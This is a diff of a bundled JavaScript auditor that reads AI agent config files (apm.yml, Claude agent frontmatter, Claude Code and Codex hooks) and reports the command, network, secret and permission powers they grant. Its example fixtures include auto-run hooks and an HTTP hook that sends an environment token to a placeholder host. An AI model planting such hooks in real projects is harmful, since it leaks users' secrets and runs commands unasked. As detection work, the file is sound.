+function exampleOf$1(kind, scope, [granting, without, ...equivalents]) {
+	return {
+		kind,
+		scope,
+		granting,
+		without,
+		equivalents
+	};
+}
+function exampleWriter(write) {
+	return (kind, scope, [granting, without, ...others]) => exampleOf$1(kind, scope, [
+		write(granting),
+		write(without),
+		...others.map((it) => write(it))
+	]);
+}
+// src/powers/examples/apm-yml.ts
+const manifest$4 = (text) => ({ "p/apm.yml": `name: p\nversion: 1.0.0\n${text}` });
+const example$14 = exampleWriter(manifest$4);
+const apmExamples = [
+	example$14("install", "acme/skills/review#main", [
+		"dependencies:\n  apm:\n    - acme/skills/review#main\n",
+		"dependencies:\n  apm: []\n",
+		"dependencies: {apm: [\"acme/skills/review#main\"]}\n"
+	]),
+	example$14("mcp", "npx -y docs-mcp@latest", [
+		"dependencies:\n  mcp:\n    - name: docs\n      registry: false\n      command: npx\n      args: [-y, docs-mcp@latest]\n",
+		"dependencies: {}\n",
+		"dependencies: {mcp: [{command: npx, args: [-y, docs-mcp@latest], name: docs, registry: false}]}\n"
+	]),
+	example$14("mcp", "io.github.acme/docs", ["dependencies:\n  mcp:\n    - io.github.acme/docs\n", "dependencies:\n  mcp: []\n"]),
+	example$14("secret", "${DOCS_KEY} to https://docs.example/mcp", ["dependencies:\n  mcp:\n    - {name: docs, url: \"https://docs.example/mcp\", headers: {X-Key: \"${DOCS_KEY}\"}}\n", "dependencies:\n  mcp:\n    - {name: docs, url: \"https://docs.example/mcp\"}\n"]),
+	example$14("run", "./setup.sh", [
+		"lifecycle:\n  post-install:\n    - type: command\n      run: ./setup.sh\n",
+		"lifecycle: {}\n",
+		"lifecycle: {post-install: [{run: ./setup.sh, type: command}]}\n"
+	]),
+	example$14("run", "codex review.prompt.md", ["scripts:\n  review: codex review.prompt.md\n", "scripts: {}\n"]),
+	example$14("net", "https://x.example/installed", ["lifecycle:\n  post-install:\n    - {type: http, url: \"https://x.example/installed\"}\n", "lifecycle: {}\n"]),
+	example$14("settings", "registries", ["registries: {own: {url: \"https://registry.example\"}}\n", ""])
+];
+// src/powers/table/readers.ts
+function on(more = {}, granting = true) {
+	return ({ value }, { name, client }) => {
+		const read = flag$1(value);
+		if (read === void 0) return wrong(name, value, client, "true or false");
+		if (read !== granting) return {};
+		return { grants: [settingGrant(name, `${name}: ${read}`, {
+			at: value.at,
+			...more
+		})] };
+	};
+}
+function off(guarding) {
+	return ({ value }, { name, client }) => {
+		const read = typeof guarding === "boolean" ? flag$1(value) : text$1(value);
+		if (read === void 0) return wrong(name, value, client, typeof guarding === "boolean" ? "true or false" : msg`${valuePart(guarding)}`);
+		if (read !== guarding) return {};
+		return { grants: [settingGrant(name, `${name}: ${read}`, {
+			kind: "guard",
+			at: value.at
+		})] };
+	};
+}
+function either$1(granting, more = {}) {
+	return (field, place) => {
+		const granted = on(more, granting)(field, place);
+		return granted.grants || granted.faults ? granted : off(!granting)(field, place);
+	};
+}
+function value(granting, more = {}) {
+	return ({ value: written }, { name }) => {
+		const read = text$1(written) ?? "";
+		if (!granting.includes(read)) return {};
+		return { grants: [settingGrant(name, `${name}: ${read}`, {
+			at: written.at,
+			...more
+		})] };
+	};
+}
+function only(guard) {
+	return ({ keyAt, value: list }, { name, client }) => {
+		if (list.kind !== "list") return wrong(name, list, client, "a list");
+		return { grants: [settingGrant(name, guard, {
+			kind: "guard",
+			at: keyAt
+		}), ...list.items.map((item) => settingGrant(name, `${name}: ${text$1(item) ?? canonical(toJson(item))}`, { at: item.at }))] };
+	};
+}
+function opaque(more = {}) {
+	return ({ keyAt, value }, { name }) => {
+		return { grants: [settingGrant(name, `${name}: ${canonical(toJson(value))}`, {
+			at: keyAt,
+			...more
+		})] };
+	};
+}
+function each(grantOf) {
+	return ({ value }, place) => {
+		const entries = value.kind === "list" ? stringsOf(value) : null;
+		if (entries) return { grants: entries.map((entry) => grantOf(entry, place)) };
+		return wrong(place.name, value, place.client, "a list of strings");
+	};
+}
+function names$4(more = {}) {
+	return each(({ text: name, at }, place) => settingGrant(place.name, name.trim(), {
+		at,
+		...more
+	}));
+}
+const entries = each(({ text: written, at }, { name }) => settingGrant(name, `${name}: ${written}`, { at }));
+function folders$1(kind, more = {}) {
+	return each((entry, { name }) => folderGrant(entry, {
+		kind,
+		feature: "setting",
+		subject: name,
+		trigger: inRepository,
+		...more
+	}));
+}
+function hosts(kind) {
+	return each((entry, { name }) => {
+		const host = entry.text.trim().toLowerCase();
+		return settingGrant(name, host, {
+			kind,
+			reach: host === "*" ? "any" : "one",
+			at: entry.at
+		});
+	});
+}
+const everyHost = on({
+	kind: "net",
+	scope: "every host",
+	reach: "any"
+});
+function address(remark) {
+	return ({ value }, { name: subject }) => {
+		const { name, isKnown } = hostOf$2(text$1(value));
+		return { grants: [settingGrant(subject, name, {
+			kind: "net",
+			reach: isKnown ? "one" : "unknown",
+			remark,
+			at: value.at
+		})] };
+	};
+}
+function command$3(trigger = inRepository) {
+	return ({ value }, { name, client }) => {
+		const written = value.kind === "table" ? get(value, "command") ?? value : value;
+		const words = items(written).map((item) => source(item) ?? "");
+		const line = written.kind === "list" ? joinWords(words) : text$1(written);
+		const base = {
+			kind: "run",
+			feature: "helper-command",
+			subject: name.replace(/\.command$/, ""),
+			trigger,
+			at: written.at
+		};
+		if (!line) return {
+			...wrong(name, value, client, "a command"),
+			grants: [{
+				...base,
+				scope: name,
+				reach: "unknown"
+			}]
+		};
+		const run = written.kind === "list" ? words : line;
+		return { grants: [{
+			...base,
+			scope: line.trim(),
+			reach: "one",
+			pin: pinOf$1(line),
+			command: run
+		}] };
+	};
+}
+function mode$1({ raising, limiting, neutral, remarks = {} }) {
+	return ({ value }, { name, client }) => {
+		const written = text$1(value);
+		if (written !== void 0 && neutral.includes(written)) return {};
+		const grant = {
+			kind: "approve",
+			feature: "permission-mode",
+			subject: name,
+			trigger: inRepository,
+			scope: written ?? name,
+			reach: "one",
+			at: value.at
+		};
+		if (written !== void 0 && limiting.includes(written)) return { grants: [{
+			...grant,
+			kind: "guard"
+		}] };
+		const rank = raising.indexOf(written ?? "");
+		if (rank >= 0) return { grants: [{
+			...grant,
+			rank: rank + 1,
+			remark: remarks[written ?? ""]
+		}] };
+		return {
+			...wrong(name, value, client, list([
+				...limiting,
+				...neutral,
+				...raising
+			].map(valuePart), {
+				limit: 9,
+				last: "or"
+			})),
+			grants: [{
+				...grant,
+				reach: "unknown"
+			}]
+		};
+	};
+}
+function wrong(name, value, client, expected) {
+	return { faults: [{
+		...wrongType(name, value, {
+			expected,
+			consequence: `${client} does not use it`
+		}),
+		isUnreadable: true
+	}] };
+}
+const apmYml = tableCarrier({
+	id: "apm-yml",
+	paths: ["apm.yml"],
+	client: "apm",
+	format: "yaml",
+	consequence: "apm installs nothing of it",
+	rows: [
+		...["dependencies", "devDependencies"].flatMap((key) => [...grants$1("install", `${key}.apm`, "installs the package"), ...grants$1("mcp", `${key}.mcp, ${key}.lsp`, "adds the server to every client")]),
+		...grants$1("run", "lifecycle", "runs the command at the event", {
+			read: ({ value }) => readLifecycle(value),
+			example: { lifecycle: { "post-install": [{
+				type: "command",
+				run: "./setup.sh"
+			}] } }
+		}),
+		...within("lifecycle.<event>[]", lifecycleRows),
+		...within("lifecycle.<event>", lifecycleRows),
+		...grants$1("run", "scripts", "runs with `apm run`", {
+			read: ({ value }) => readScripts(value),
+			example: { scripts: { review: "codex review.prompt.md" } }
+		}),
+		...["executables", "allowExecutables"].flatMap((key) => executableRows(key)),
+		...grants$1("settings", "registries, includes", "shown as written", {
+			read: opaque(),
+			example: { registries: { own: { url: "https://registry.example" } } }
+		}),
+		...harmless$1(`
+    name version description author license target targets type compilation homepage repository
+    keywords tags exclude
+  `)
+	],
+	unitOf: (path) => nameOf$3(path) === "apm.yml" ? {
+		kind: "plugin",
+		root: folderOf(path)
+	} : null,
+	readWhole: (root, { unit }) => combine$1({
 		name: text$1(get(root, "name")),
 		version: source(get(root, "version"))
-	}, { unread: unreadFields(root, known$20) }, ...["dependencies", "devDependencies"].map((key) => dependencies(key, get(root, key), unit)), readScripts(get(root, "scripts")), readLifecycle(get(root, "lifecycle")), opaqueSetting(fields.get("registries"), ""), opaqueSetting(fields.get("includes"), ""));
-}
-function dependencies(key, value, unit) {
-	if (!value || value.kind === "null") return {};
-	if (value.kind !== "table") return { faults: [wrongType(key, value, {
-		expected: "a mapping with \"apm\"",
-		consequence: "apm installs none of them"
-	})] };
-	return combine$1({ unread: unreadFields(value, dependencyKeys, `${key}.`) }, ...items(get(value, "apm")).map(readDependency), ...items(get(value, "mcp")).map((server) => readServer(server, unit)), ...items(get(value, "lsp")).map((server) => readServer(server, unit)));
+	}, ...["dependencies", "devDependencies"].map((key) => dependencies(get(root, key), unit))),
+	sample: { path: "p/apm.yml" },
+	examples: apmExamples
+});
+function dependencies(value, unit) {
+	return combine$1(...items(get(value, "apm")).map(readDependency), ...items(get(value, "mcp")).map((server) => readServer$1(server, unit)), ...items(get(value, "lsp")).map((server) => readServer$1(server, unit)));
 }
 // src/powers/examples/claude-agent.ts
-const example$17 = exampleWriter(agent$1);
-const file$2 = ".claude/agents/a.md";
-function agent$1(lines, path = file$2) {
+const example$13 = exampleWriter(agent$3);
+const file$4 = ".claude/agents/a.md";
+function agent$3(lines, path = file$4) {
 	return {
 		...path.startsWith("p/") ? { "p/.claude-plugin/plugin.json": "{\"name\": \"p\"}\n" } : {},
 		[path]: `---\nname: a\ndescription: Does it.\n${lines}---\nText.\n`
 	};
 }
 const agentExamples = [
-	example$17("delegate", "Bash", [
+	example$13("delegate", "Bash", [
 		"tools: Read, Bash(*)\n",
 		"tools: Read, Bash(git status)\n",
 		"tools: [Bash, Read]\n",
 		"tools:\n  - Bash\n  - \"Read\"\n"
 	]),
 	exampleOf$1("delegate", "*", [
-		agent$1("", "p/agents/a.md"),
-		agent$1("tools: Read\n", "p/agents/a.md"),
-		agent$1("tools: '*'\n", "p/agents/a.md"),
-		agent$1("tools:\n", "p/agents/a.md")
+		agent$3("", "p/agents/a.md"),
+		agent$3("tools: Read\n", "p/agents/a.md"),
+		agent$3("tools: '*'\n", "p/agents/a.md"),
+		agent$3("tools:\n", "p/agents/a.md")
 	]),
-	example$17("guard", "Write", [
+	example$13("guard", "Write", [
 		"disallowedTools: Write, Edit\n",
 		"disallowedTools: Edit\n",
 		"disallowedTools: [Edit, Write]\n"
 	]),
-	example$17("approve", "acceptEdits", [
+	example$13("approve", "acceptEdits", [
 		"permissionMode: acceptEdits\n",
 		"permissionMode: default\n",
 		"permissionMode: \"acceptEdits\"\n"
 	]),
-	example$17("approve", "default", [
+	example$13("approve", "default", [
 		"",
 		"permissionMode: plan\n",
 		"permissionMode: manual\n"
 	]),
-	example$17("mcp", "npx -y docs-mcp@1.2.3", [
+	example$13("mcp", "npx -y docs-mcp@1.2.3", [
 		"mcpServers:\n  - docs: {command: npx, args: [-y, docs-mcp@1.2.3]}\n",
 		"tools:\n",
 		"mcpServers: {docs: {args: [\"-y\", docs-mcp@1.2.3], command: npx}}\n"
 	]),
-	example$17("mcp", "github", [
+	example$13("mcp", "github", [
 		"mcpServers: [github, slack]\n",
 		"mcpServers: [slack]\n",
 		"mcpServers:\n  - slack\n  - github\n"
 	]),
-	example$17("run", "./check.sh", [
+	example$13("run", "./check.sh", [
 		"hooks: {Stop: [{hooks: [{type: command, command: ./check.sh}]}]}\n",
 		"",
 		"hooks:\n  Stop:\n    - hooks:\n        - command: ./check.sh\n          type: command\n"
 	]),
-	example$17("delegate", "deploy", [
+	example$13("delegate", "deploy", [
 		"skills: deploy, review\n",
 		"skills: review\n",
 		"skills: [review, deploy]\n"
 	]),
-	example$17("write", "~/.claude/agent-memory", [
+	example$13("write", "~/.claude/agent-memory", [
 		"memory: user\n",
 		"memory: project\n",
 		"memory: \"user\"\n"
 	]),
-	example$17("auto", "background", [
+	example$13("auto", "background", [
 		"background: true\n",
 		"background: false\n",
 		"background: yes\n"
 	]),
-	example$17("auto", "Deploy the site.", [
+	example$13("auto", "Deploy the site.", [
 		"initialPrompt: Deploy the site.\n",
 		"",
 		"initialPrompt: \"Deploy the site.\"\n"
 	]),
-	example$17("guard", "worktree", [
+	example$13("guard", "worktree", [
 		"isolation: worktree\n",
 		"",
 		"isolation: 'worktree'\n"
 	])
 ];
+// src/powers/hooks/hook-events.ts
+const event = (start, more = {}) => ({
+	start,
+	hasMatcher: true,
+	isToolEvent: false,
+	isGuard: false,
+	...more
+});
+const toolEvent = (start) => event(start, { isToolEvent: true });
+const withoutMatcher = event("event", { hasMatcher: false });
+const claudeEvents = new Map([
+	["SessionStart", event("session")],
+	["Setup", event("session")],
+	["InstructionsLoaded", event("session")],
+	["UserPromptSubmit", event("prompt", { hasMatcher: false })],
+	["UserPromptExpansion", event("prompt")],
+	["PreToolUse", {
+		...toolEvent("before-tool"),
+		isGuard: true
+	}],
+	["PermissionRequest", {
+		...toolEvent("before-tool"),
+		isGuard: true
+	}],
+	["PermissionDenied", toolEvent("after-tool")],
+	["PostToolUse", toolEvent("after-tool")],
+	["PostToolUseFailure", toolEvent("after-tool")],
+	["PostToolBatch", event("after-tool", { hasMatcher: false })],
+	...[
+		"Stop",
+		"TeammateIdle",
+		"TaskCreated",
+		"TaskCompleted",
+		"WorktreeCreate"
+	].map((name) => [name, withoutMatcher]),
+	...[
+		"WorktreeRemove",
+		"MessageDisplay",
+		"CwdChanged"
+	].map((name) => [name, withoutMatcher]),
+	["PreSkillShellCommand", {
+		...event("before-tool"),
+		isGuard: true
+	}],
+	...[
+		"SessionEnd",
+		"Notification",
+		"SubagentStart",
+		"SubagentStop",
+		"StopFailure"
+	].map((name) => [name, event("event")]),
+	...[
+		"ConfigChange",
+		"DirectoryAdded",
+		"FileChanged",
+		"PreCompact",
+		"PostCompact"
+	].map((name) => [name, event("event")]),
+	...[
+		"Elicitation",
+		"ElicitationResult",
+		"PreModelSwitch",
+		"PostModelSwitch"
+	].map((name) => [name, event("event")])
+]);
+function isGuardEvent(name) {
+	return claudeEvents.get(name ?? "")?.isGuard === true;
+}
+const claudeDialect = {
+	client: "Claude Code",
+	events: claudeEvents
+};
+const codexNames = wordList(`
+  PreToolUse PermissionRequest PostToolUse PreCompact PostCompact SessionStart SessionEnd
+  UserPromptSubmit SubagentStart SubagentStop Stop PreModelRequest PostModelRequest Interrupt
+`);
+const codexDialect = {
+	client: "Codex",
+	events: new Map(codexNames.map((name) => [name, claudeEvents.get(name) ?? event("event")])),
+	others: new Set(["state"])
+};
+// src/powers/hooks/hook-handlers.ts
+function readHandler$1(handler, context) {
+	const type = text$1(get(handler, "type"));
+	const read = handler.kind === "table" && type !== void 0 ? readers$2[type] : void 0;
+	if (!read) {
+		const written = get(handler, "type") ?? handler;
+		const message = msg`Unknown type ${shownValue(written)} of a ${code$1(context.event)} hook.`;
+		const help = msg`Use one of ${list(Object.keys(readers$2).map((known) => code$1(known)), { limit: 9 })}.`;
+		const unknown = {
+			scope: type ?? source(written) ?? written.kind,
+			reach: "unknown"
+		};
+		return {
+			...combine$1({
+				grants: [{
+					...grantAt(handler, context),
+					...unknown
+				}],
+				faults: [guardFault(grantFault(message, handler.at, help), isGuardEvent(context.event))]
+			}),
+			canBlock: false
+		};
+	}
+	const faults = handlerFaults(handler, context);
+	const grants = [...read(handler, context), ...failureGuard(handler, context)];
+	const canBlock = isGuardEvent(context.event) && type === "command" && text$1(get(handler, "command")) !== void 0 && flag$1(get(handler, "async")) !== true && flag$1(get(handler, "asyncRewake")) !== true;
+	return {
+		...combine$1({
+			grants,
+			faults
+		}),
+		canBlock
+	};
+}
+const handler = (event, fields) => ({ hooks: { [event]: [{ hooks: [fields] }] } });
+function readWindowsCommand(field, place) {
+	const subject = place.keys.at(-1) ?? "";
+	const { grants: runs = [], faults = [] } = command$3({
+		start: "event",
+		event: subject
+	})(field, place);
+	return {
+		grants: runs.map((run) => ({
+			...run,
+			feature: "hook",
+			subject
+		})),
+		faults
+	};
+}
+const handlerRows$1 = [
+	...grants$1("run", "command", "runs the command at the event, without asking", {
+		example: handler("Stop", {
+			type: "command",
+			command: "./notify.sh"
+		}),
+		without: { hooks: { Stop: [] } }
+	}),
+	...grants$1("run", "command_windows, commandWindows", "Codex runs the command on Windows instead", {
+		read: readWindowsCommand,
+		example: handler("Stop", {
+			type: "command",
+			command: "true",
+			command_windows: "log.exe"
+		})
+	}),
+	...harmless$1("timeout_sec timeoutSec"),
+	...grants$1("net", "url", "sends the event to the host", {
+		example: handler("Stop", {
+			type: "http",
+			url: "https://x.example/hook"
+		}),
+		without: { hooks: { Stop: [] } }
+	}),
+	...grants$1("secret", "headers", "sends variables of the environment to the host", { example: handler("Stop", {
+		type: "http",
+		url: "https://x.example",
+		headers: { Authorization: "Bearer ${TOKEN}" },
+		allowedEnvVars: ["TOKEN"]
+	}) }),
+	...grants$1("mcp", "tool", "calls the tool of an MCP server at the event", {
+		example: handler("Stop", {
+			type: "mcp_tool",
+			server: "tracker",
+			tool: "log"
+		}),
+		without: { hooks: {} }
+	}),
+	...grants$1("delegate", "prompt", "asks a model at the event, which may block it", {
+		example: handler("Stop", {
+			type: "prompt",
+			prompt: "Are the tests green?"
+		}),
+		without: { hooks: {} }
+	}),
+	...grants$1("guard", "async", "absent: a hook before a tool call may block it", {
+		example: handler("PreToolUse", {
+			type: "command",
+			command: "deny.sh"
+		}),
+		without: handler("PreToolUse", {
+			type: "command",
+			command: "deny.sh",
+			async: true
+		})
+	}),
+	...grants$1("guard", "onFailure", "`block`: a hook that fails blocks the call", { example: handler("PreToolUse", {
+		type: "command",
+		command: "deny.sh",
+		onFailure: "block"
+	}) }),
+	...harmless$1(`
+    cloud holdsTools type args asyncRewake shell timeout allowedEnvVars server input model continueOnBlock if
+    statusMessage once rewakeMessage rewakeSummary
+  `)
+];
+const readers$2 = {
+	command: (handler, context) => {
+		const args = items(get(handler, "args")).map((item) => source(item) ?? "");
+		const command = text$1(get(handler, "command"));
+		const line = args.length > 0 ? [command ?? "", joinWords(args)].join(" ") : command ?? "";
+		const grant = grantAt(get(handler, "command") ?? handler, context);
+		if (command === void 0) return [{
+			...grant,
+			reach: "unknown"
+		}];
+		const run = args.length > 0 ? [command, ...args] : line;
+		return [{
+			...grant,
+			scope: line.trim(),
+			pin: pinOf$1(line),
+			command: run
+		}];
+	},
+	http: (handler, context) => {
+		const url = get(handler, "url");
+		const grant = grantAt(url ?? handler, context);
+		const host = hostOf$2(text$1(url));
+		const remark = "the event is sent there whole";
+		const sent = {
+			...grant,
+			kind: "net",
+			scope: host.name,
+			remark
+		};
+		const secrets = secretsSent(handler, host.name, ["headers", "url"]);
+		const { subject, trigger } = grant;
+		return [host.isKnown ? sent : {
+			...sent,
+			reach: "unknown"
+		}, ...secrets.map((secret) => ({
+			...secret,
+			subject,
+			trigger
+		}))];
+	},
+	mcp_tool: (handler, context) => {
+		const names = ["server", "tool"].map((key) => text$1(get(handler, key)) ?? "");
+		return [{
+			...grantAt(get(handler, "tool") ?? handler, context),
+			kind: "mcp",
+			scope: names.join(" / ")
+		}];
+	},
+	prompt: (handler, context) => [promptGrant(handler, context)],
+	agent: (handler, context) => [promptGrant(handler, context)]
+};
+function promptGrant(handler, context) {
+	const prompt = get(handler, "prompt");
+	return {
+		...grantAt(prompt ?? handler, context),
+		kind: "delegate",
+		scope: (text$1(prompt) ?? "").trim()
+	};
+}
+function grantAt({ at }, { event, trigger }) {
+	return {
+		kind: "run",
+		feature: "hook",
+		scope: "",
+		reach: "one",
+		subject: event,
+		trigger,
+		at
+	};
+}
+function failureGuard(handler, context) {
+	const field = get(handler, "onFailure");
+	if (text$1(field) !== "block" || !field) return [];
+	return [{
+		...grantAt(field, context),
+		kind: "guard",
+		scope: `${context.event} onFailure: block`
+	}];
+}
+function handlerFaults(handler, { event, trigger }) {
+	const condition = get(handler, "if");
+	const once = get(handler, "once");
+	const known = claudeEvents.get(event);
+	const faults = [];
+	if (text$1(get(handler, "type")) === "command" && text$1(get(handler, "command")) === void 0) {
+		const fault = grantFault(msg`${code$1(event)} hook has no command. Claude Code runs nothing.`, get(handler, "command")?.at ?? handler.at);
+		faults.push(guardFault(fault, isGuardEvent(event)));
+	}
+	if (condition && known && !known.isToolEvent) {
+		const message = msg`${code$1(event)} hook never runs: ${code$1("if")} needs an event of tools.`;
+		faults.push(grantFault(message, condition.at));
+	}
+	if (flag$1(once) === true && trigger.once === void 0) {
+		const message = msg`${code$1("once")} has no effect outside skills: the hook runs at each ${code$1(event)}.`;
+		faults.push(grantFault(message, once?.at ?? handler.at));
+	}
+	return faults;
+}
+// src/powers/hooks/matchers.ts
+function claudeMatcher(text) {
+	if ([
+		"",
+		"*",
+		".*",
+		"^.*$"
+	].includes(text)) return void 0;
+	if (!/^[\w\- ,|]+$/.test(text)) return {
+		text,
+		names: null
+	};
+	const names = text.split(/[|,]/).map((name) => name.trim());
+	return {
+		text,
+		names: [...new Set(names.filter((name) => name !== ""))].sort()
+	};
+}
+// src/powers/hooks/repeated-hooks.ts
+function repeatedHooks(grants, consequence) {
+	return [...groupBy(grants.filter(({ kind }) => kind !== "guard" && kind !== "secret"), ({ kind, scope, subject, trigger }) => JSON.stringify([
+		kind,
+		scope,
+		subject,
+		trigger
+	])).values()].flatMap(([first, second]) => {
+		if (!first || !second) return [];
+		return [grantFault(msg`Duplicate ${code$1(first.subject)} hook ${code$1(first.scope, 120)}: ${words(consequence)}.`, second.at)];
+	});
+}
+// src/powers/hooks/hooks.ts
+function hookRows(description, home = {}) {
+	return [...grants$1("run", "hooks", description, {
+		read: ({ value }, { source: { unit } }) => readHooks$1(value, {
+			...home,
+			unit
+		}),
+		example: { hooks: { PostToolUse: [{
+			matcher: "Edit|Write",
+			hooks: [{
+				type: "command",
+				command: "make lint"
+			}]
+		}] } }
+	}), ...eventRows()];
+}
+function eventRows(prefix = "hooks") {
+	return within(`${prefix}.<event>[]`, [...harmless$1("matcher"), ...within("hooks[]", handlerRows$1)]);
+}
+function readHooks$1(value, home) {
+	if (!value) return combine$1();
+	if (value.kind !== "table") return combine$1({ faults: [{
+		...wrongType("hooks", value, {
+			expected: "a mapping of events",
+			consequence: "no hook of it is loaded"
+		}),
+		isUnreadable: true
+	}] });
+	const { others } = home.dialect ?? claudeDialect;
+	const read = combine$1(...fields(value).filter(({ key }) => !others?.has(key)).map((event) => readEvent$1(event, home)));
+	return combine$1(read, { faults: repeatedHooks(read.grants, "the second adds nothing") });
+}
+function readEvent$1({ key, keyAt, value }, home) {
+	if (value.kind !== "list") return combine$1({ faults: [{
+		...wrongType(key, value, {
+			expected: "a list of hooks",
+			consequence: "none of them is loaded"
+		}),
+		isUnreadable: true
+	}] });
+	const { client, events } = home.dialect ?? claudeDialect;
+	const known = events.get(key);
+	const similar = known ? null : suggest(key, events.keys());
+	const help = similar ? msg`Write ${code$1(similar)}.` : void 0;
+	const fault = grantFault(msg`Unknown event ${code$1(key)} of ${words(client)}.`, keyAt, help);
+	const groups = value.items.map((group) => readGroup(group, key, home));
+	return combine$1({ faults: known ? [] : [guardFault(fault, isGuardEvent(similar))] }, ...groups);
+}
+function readGroup(group, event, home) {
+	const expected = {
+		expected: msg`a mapping with ${code$1("hooks")}`,
+		consequence: "its hooks are not loaded"
+	};
+	const handlers = get(group, "hooks");
+	if (group.kind !== "table" || handlers?.kind !== "list") return combine$1({ faults: [{
+		...wrongType(event, handlers ?? group, expected),
+		isUnreadable: true
+	}] });
+	const read = items(handlers).map((handler) => {
+		return readHandler$1(handler, {
+			event,
+			trigger: triggerOf$1(event, group, handler, home),
+			unit: home.unit
+		});
+	});
+	const guards = read.some(({ canBlock }) => canBlock) ? [guardOf(event, group, home)] : [];
+	return combine$1({
+		faults: groupFaults(event, group, home).map((fault) => guardFault(fault, isGuardEvent(event))),
+		grants: guards
+	}, ...read);
+}
+function triggerOf$1(event, group, handler, home) {
+	const known = (home.dialect ?? claudeDialect).events.get(event);
+	const matcher = get(group, "matcher");
+	const written = matcher && (text$1(matcher) ?? "\0");
+	return {
+		start: known?.start ?? "event",
+		event,
+		matcher: known?.hasMatcher === false ? void 0 : claudeMatcher(written ?? ""),
+		condition: text$1(get(handler, "if")),
+		once: home.honoursOnce && get(handler, "once")?.kind === "boolean" ? isTrue(handler) : void 0
+	};
+}
+function isTrue(handler) {
+	const once = get(handler, "once");
+	return once?.kind === "boolean" && once.value === true ? true : void 0;
+}
+function guardOf(event, group, home) {
+	return {
+		kind: "guard",
+		feature: "hook",
+		scope: event,
+		reach: "one",
+		subject: event,
+		trigger: {
+			...triggerOf$1(event, group, group, home),
+			condition: void 0
+		},
+		at: group.at
+	};
+}
+function groupFaults(event, group, { dialect = claudeDialect }) {
+	const matcher = get(group, "matcher");
+	const written = text$1(matcher);
+	if (!matcher || written === "" || written === "*") return [];
+	if (written === void 0) return [wrongType("matcher", matcher, {
+		expected: "a string",
+		consequence: `${dialect.client} loads none of these hooks`
+	})];
+	if (dialect.events.get(event)?.hasMatcher === false) return [grantFault(msg`${code$1("matcher")} has no effect on ${code$1(event)}: the hook runs at each.`, matcher.at)];
+	if (/^mcp__[\w-]+$/.test(written) && !/^mcp__.+__/.test(written)) return [grantFault(msg`The matcher ${code$1(written)} matches no tool.`, matcher.at, msg`Write ${code$1(`${written}__.*`)}.`)];
+	return [];
+}
 // src/powers/markdown/agent-servers.ts
 function agentServers(value, unit) {
 	if (!value || value.kind === "null") return combine$1();
-	if (value.kind !== "list") return readServers(value, {
+	if (value.kind !== "list") return readServers$1(value, {
 		unit,
-		trigger: duringTurn$4
+		trigger: duringTurn$7
 	});
 	return combine$1(...value.items.map((item) => {
 		const name = text$1(item);
-		if (name === void 0) return readServers(item, {
+		if (name === void 0) return readServers$1(item, {
 			unit,
-			trigger: duringTurn$4
+			trigger: duringTurn$7
 		});
 		return { grants: [namedServer(name, item)] };
 	}));
 }
-const duringTurn$4 = { start: "turn" };
+const duringTurn$7 = { start: "turn" };
 function namedServer(name, { at }) {
 	return {
 		kind: "mcp",
@@ -12824,7 +13813,7 @@ function namedServer(name, { at }) {
 		scope: name,
 		reach: "one",
 		subject: `server ${name}`,
-		trigger: duringTurn$4,
+		trigger: duringTurn$7,
 		at,
 		remark: "as other files configure it",
 		entry: {
@@ -12865,15 +13854,15 @@ function readFlag({ key, value }) {
 	};
 }
 // src/powers/markdown/agent-settings.ts
-const duringTurn$3 = { start: "turn" };
+const duringTurn$6 = { start: "turn" };
 function settingGrants(frontmatter) {
 	const read = ({ key }) => {
 		const field = frontmatter.fields.get(key);
-		return field && field.value.kind !== "null" ? readers$2[key](field) : {};
+		return field && field.value.kind !== "null" ? readers$1[key](field) : {};
 	};
 	return combine$1(...names$3.map((key) => read({ key })));
 }
-const readers$2 = {
+const readers$1 = {
 	memory(field) {
 		const written = text$1(field.value) ?? "";
 		const place = memories.get(written);
@@ -12898,10 +13887,10 @@ const readers$2 = {
 		if (text$1(field.value) !== "worktree") {
 			const consequence = "the agent works in the repository itself";
 			const expected = msg`${valuePart("worktree")}`;
-			return { faults: [wrongType("isolation", field.value, {
+			return { faults: [guardFault(wrongType("isolation", field.value, {
 				expected,
 				consequence
-			})] };
+			}))] };
 		}
 		const power = {
 			kind: "guard",
@@ -12951,12 +13940,12 @@ const readers$2 = {
 		}] };
 	}
 };
-const names$3 = Object.keys(readers$2);
+const names$3 = Object.keys(readers$1);
 const atSession = { start: "session" };
 function whereOf({ value }) {
 	return {
 		at: value.at,
-		trigger: duringTurn$3
+		trigger: duringTurn$6
 	};
 }
 const memories = new Map([
@@ -12990,18 +13979,22 @@ const effort = {
 		"xhigh",
 		"max"
 	],
+	hasNumbers: true,
 	consequence: "the effort of the session is used"
 };
-const shell = {
+const shell$1 = {
 	values: ["bash", "powershell"],
 	consequence: "clients know no such shell for the commands of the text"
 };
 function unknownChoices(frontmatter, choices) {
-	return Object.entries(choices).flatMap(([key, { values, consequence }]) => {
+	return Object.entries(choices).flatMap(([key, { values, hasNumbers, consequence }]) => {
 		const value = frontmatter?.fields.get(key)?.value;
-		if (!value || value.kind === "null" || values.includes(source(value) ?? "")) return [];
+		const written = source(value) ?? "";
+		if (!value || value.kind === "null" || values.includes(written)) return [];
+		if (hasNumbers && /^[1-9]\d*$/.test(written)) return [];
+		const names = values.map(valuePart);
 		return [wrongType(key, value, {
-			expected: list(values.map(valuePart), {
+			expected: list(hasNumbers ? [...names, words("a number")] : names, {
 				limit: 9,
 				last: "or"
 			}),
@@ -13039,7 +14032,7 @@ function isIn$1(folder, path, tree) {
 	const root = segments.slice(0, index).join("/");
 	return tree.has(join$2(root, ".claude-plugin/plugin.json")) || isBarePlugin(root, tree);
 }
-const otherManifests = [
+const otherManifests$1 = [
 	".cursor-plugin/plugin.json",
 	".codex-plugin/plugin.json",
 	"gemini-extension.json"
@@ -13051,7 +14044,7 @@ const pluginFiles = [
 ];
 function isBarePlugin(root, tree) {
 	const has = (name) => tree.has(join$2(root, name));
-	if (otherManifests.some(has)) return false;
+	if (otherManifests$1.some(has)) return false;
 	if (pluginFiles.some(has)) return true;
 	const parent = folderOf(root);
 	return ["plugins", "external_plugins"].includes(nameOf$3(parent)) && tree.has(join$2(folderOf(parent), ".claude-plugin/marketplace.json"));
@@ -13776,12 +14769,13 @@ function readLenientFrontmatter(path, text, keys) {
 }
 function readSkillOrCommand({ path, text, unit, skillMd }) {
 	if (unit.kind === "skill") return splitSkillMd(skillMd());
-	return readLenientFrontmatter(path, text, commandKeys$2);
+	return readLenientFrontmatter(path, text, commandKeys$1);
 }
-const commandKeys$2 = new Set(wordList(`
+const commandKeys$1 = new Set(wordList(`
   name description when_to_use argument-hint arguments model effort allowed-tools disallowed-tools
   hooks disable-model-invocation user-invocable paths context agent background shell version
